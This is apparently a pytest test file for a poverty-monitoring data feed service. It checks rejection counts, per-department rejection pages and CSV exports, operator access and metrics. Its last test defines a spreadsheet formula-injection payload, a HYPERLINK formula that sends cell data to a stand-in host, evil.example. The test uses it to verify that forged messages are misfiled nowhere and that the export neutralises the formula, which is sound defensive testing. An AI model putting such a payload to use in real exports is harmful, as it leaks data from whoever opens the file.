"""Departments' data quality through the real broker, on both stores: a mix
of valid and invalid messages from several departments, the figures of the
month, each department's own rejected messages on its page with the reason
naming the field (never another department's), the CSV download read back,
the operators' API and the gauges; a message claiming another department's
source filed under whoever sent it, its formula read back as text."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient

from domain.access import Role
from domain.feeds import month_of
from services.alerts.service import AlertsService
from services.feeds.health import feed_health
from services.monitor.bootstrap import open_monitor
from synthetic.sample import Builder
from tests.helpers import bearer, publish, signed, wait_for

B = Builder("feeds")
DAY = date(2026, 11, 3)


def now() -> datetime:
    return datetime.now(UTC)


def without(message: dict, field: str) -> dict:
    message = json.loads(json.dumps(message))
    del message["data"][field]
    return message


@pytest.fixture
def fed(settings):
    """Four valid and two invalid messages from three departments, through
    the monitor and into the alerts process's followers; each invalid one
    signed by its department's account, as a dead letter needs to be filed
    under a department."""
    bad_income = B.income("H-2", DAY, "12000", date(2026, 1, 1), date(2026, 10, 31))
    bad_income["data"]["amount_yuan"] = "12k"
    with (
        open_monitor(settings, today=lambda: DAY) as monitor,
        AlertsService(settings, clock=now) as alerts,
    ):
        tokens = {
            source: alerts.accounts.issue(source, Role.PUBLISHER, "test", source=source)
            for source in ("medical-insurance", "agriculture")
        }
        publish(
            settings,
            B.register("H-1", DAY, "yellow"),
            B.register("H-2", DAY, "blue"),
            B.illness("H-1", DAY, "30000", "20000"),
            B.illness("H-2", DAY, "8000", "6000"),
            signed(
                without(B.illness("H-1", DAY, "1000", "800"), "total_cost_yuan"),
                "medical-insurance",
                tokens["medical-insurance"],
            ),
            signed(bad_income, "agriculture", tokens["agriculture"]),
        )
        wait_for(lambda: len(monitor.households.history("H-2")) == 3, what="the valid facts")
        month = month_of(now())

        def counted():
            alerts.catch_up()
            feeds = alerts.parts.feeds
            h = {s.source: s for s in feed_health(feeds.views, month, book=feeds.book).sources}
            return h if sum(s.rejected for s in h.values()) == 2 else None

        yield alerts, wait_for(counted, timeout=90, what="the rejections and counts"), month


def test_the_months_figures_after_a_mix_of_valid_and_invalid_messages(fed):
    _, health, _ = fed
    medical, farm, registry = (
        health["medical-insurance"],
        health["agriculture"],
        health["poverty-office"],
    )
    assert (medical.accepted, medical.rejected) == (2, 1)
    assert medical.rejection_rate == pytest.approx(1 / 3)
    (reason,) = medical.top_reasons
    assert reason.field == "data.total_cost_yuan" and reason.messages == 1
    assert reason.reason_zh == "字段 data.total_cost_yuan：缺少此字段"
    assert (farm.accepted, farm.rejected, farm.rejection_rate) == (0, 1, 1.0)
    assert farm.top_reasons[0].reason_zh == "字段 data.amount_yuan：应为金额数字"
    assert (registry.accepted, registry.rejected) == (2, 0)
    for s in (medical, farm, registry):
        assert s.last_message_at is not None and not s.silent and s.cadence_days
    assert "ASSUMPTION" in medical.cadence_basis
    # Never heard from: silent past its cadence.
    assert health["housing"].silent and health["housing"].last_message_at is None


def test_a_department_sees_its_own_rejections_with_reasons_and_downloads_them(fed):
    alerts, _, _ = fed
    app = alerts.web_app()
    pages = {}
    for source in ("medical-insurance", "agriculture"):
        token = alerts.accounts.issue(source, Role.PUBLISHER, "test", source=source)
        client = TestClient(app, follow_redirects=True)
        r = client.post("/inbox/signin", data={"token": token})
        assert r.status_code == 200 and r.url.path == "/inbox/feed"
        pages[source] = client
    medical = pages["medical-insurance"].get("/inbox/feed").text
    assert "被退回的数据" in medical and "医保局" in medical  # Chinese first
    assert "字段 data.total_cost_yuan：缺少此字段" in medical
    assert "data.amount_yuan" not in medical  # agriculture's, not theirs
    farm = pages["agriculture"].get("/inbox/feed").text
    assert "字段 data.amount_yuan：应为金额数字" in farm and "total_cost_yuan" not in farm
    # The same CSV as `povwatch publish` writes: row, field, reason, UTF-8 with a BOM.
    r = pages["medical-insurance"].get("/inbox/feed/rejections.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == ["row", "field", "reason"]
    assert rows[1:] == [
        ["1", "data.total_cost_yuan", "字段 data.total_cost_yuan：缺少此字段 (Field required)"]
    ]
    # Staff have no such page.
    staff = alerts.accounts.issue("wang", Role.STAFF, "test", township="Jinlong")
    client = TestClient(app)
    client.post("/inbox/signin", data={"token": staff})
    assert client.get("/inbox/feed").status_code == 403


def test_operators_list_every_departments_quality_and_the_gauges(fed):
    alerts, _, month = fed
    app = alerts.web_app()
    ops = alerts.accounts.issue("ops", Role.OPERATOR, "test")
    dept = alerts.accounts.issue("dept", Role.PUBLISHER, "test", source="agriculture")
    client = TestClient(app)
    body = client.get("/feeds", params={"month": month}, headers=bearer(ops)).json()
    by = {s["source"]: s for s in body["sources"]}
    assert by["medical-insurance"]["rejected"] == 1 and by["agriculture"]["rejected"] == 1
    assert client.get("/feeds", headers=bearer(dept)).status_code == 403
    r = client.get("/feeds", params={"month": "2026-13"}, headers=bearer(ops))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["query", "month"]
    text = client.get("/metrics", headers=bearer(ops)).text
    assert 'povwatch_feed_last_message_age_seconds{source="medical-insurance"}' in text
    assert 'povwatch_feed_cadence_seconds{source="medical-insurance"} 864000.0' in text
    assert 'povwatch_feed_rejected_this_month{source="agriculture"} 1.0' in text


def test_the_monthly_figures_from_the_settings_alone(fed, settings):
    """What the monthly report calls: the settings, a month; the tables and
    the risk status view opened and closed by the call."""
    _, health, month = fed

    def figures():
        f = feed_health(settings, month)
        return f if f.stale_income_households == 2 else None

    f = wait_for(figures, what="both registered households without income projected")
    by = {s.source: s for s in f.sources}
    assert by["medical-insurance"].model_dump(exclude={"last_message_at"}) == health[
        "medical-insurance"
    ].model_dump(exclude={"last_message_at"})
    # No department's income report was stored: none is said to publish income.
    assert all(not s.publishes_income and s.stale_income_households is None for s in f.sources)
    assert feed_health(settings, "2020-01").sources[0].accepted == 0


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def test_a_message_claiming_another_departments_source_is_filed_under_its_sender(settings):
    """The attack: any producer on the events topic claims the medical
    insurance bureau's source for a message whose extra key is a formula,
    hoping it lands in that bureau's page and CSV and runs in Excel there."""
    with (
        open_monitor(settings, today=lambda: DAY) as monitor,
        AlertsService(settings, clock=now) as alerts,
    ):
        tokens = {
            s: alerts.accounts.issue(s, Role.PUBLISHER, "test", source=s)
            for s in ("medical-insurance", "agriculture")
        }
        planted = {**B.illness("H-9", DAY, "100", "50"), "source": "medical-insurance"}
        planted[HYPERLINK] = "x"  # its name becomes the rejection's field
        forged = signed(planted, "medical-insurance", "pw_not-their-token")
        publish(settings, signed(planted, "agriculture", tokens["agriculture"]), forged, planted)

        def filed():
            alerts.catch_up()
            found = alerts.parts.feeds.views.rejections.search(limit=10)
            return found.items if found.total == 3 else None

        rows = wait_for(filed, timeout=90, what="the three dead letters")
        topic = f"topic:{settings.events_topic}"
        assert sorted(r.source for r in rows) == sorted(["agriculture", topic, topic])
        app = alerts.web_app()
        pages = {}
        for source, token in tokens.items():
            pages[source] = TestClient(app, follow_redirects=True)
            pages[source].post("/inbox/signin", data={"token": token})
        # Not in the bureau it claimed: neither on its page nor in its file.
        assert "HYPERLINK" not in pages["medical-insurance"].get("/inbox/feed").text
        r = pages["medical-insurance"].get("/inbox/feed/rejections.csv")
        assert list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")))) == [
            ["row", "field", "reason"]
        ]
        # In its sender's file, as text a spreadsheet shows and does not run.
        r = pages["agriculture"].get("/inbox/feed/rejections.csv")
        (header, row) = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert row[:2] == ["1", "'" + HYPERLINK] and not row[2].startswith(("=", "+", "-", "@"))
        # The unsigned and the forged one are the topic's, for operators only.
        ops = alerts.accounts.issue("ops", Role.OPERATOR, "test")
        body = TestClient(app).get("/feeds", headers=bearer(ops)).json()
        by = {s["source"]: s for s in body["sources"]}
        assert by[topic]["rejected"] == 2 and by["agriculture"]["rejected"] == 1
        assert by["medical-insurance"]["rejected"] == 0
        assert by["medical-insurance"]["last_message_at"] is None
        assert monitor.households.history("H-9") == []
